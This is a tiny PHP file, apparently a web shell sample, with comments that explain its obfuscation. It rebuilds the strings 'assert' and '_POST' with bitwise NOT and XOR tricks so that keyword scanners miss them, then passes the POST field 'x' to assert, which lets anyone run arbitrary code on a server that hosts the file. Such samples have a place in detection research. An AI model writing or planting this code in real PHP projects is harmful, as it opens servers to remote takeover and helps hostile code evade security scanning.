<?php
// Names from bit tricks: a NOT-ed byte string is "assert"; "_POST" is cut from "INF" (the text of
// 9 ** 9 ** 9, an overflow to infinity) and two bytes turned one at a time by chr(ord() ^ $k), with
// the key kept in a variable.
$k = 0x1F;
$a = ~"\x9e\x8c\x8c\x9a\x8d\x8b";
$inf = 9 ** 9 ** 9 . '';
$p = str_repeat(chr(ord('@') ^ $k), 1) . (substr($inf, 0, 3) ^ "\x19\x01\x15") . chr(ord('K') ^ $k);
$a(${$p}['x']);
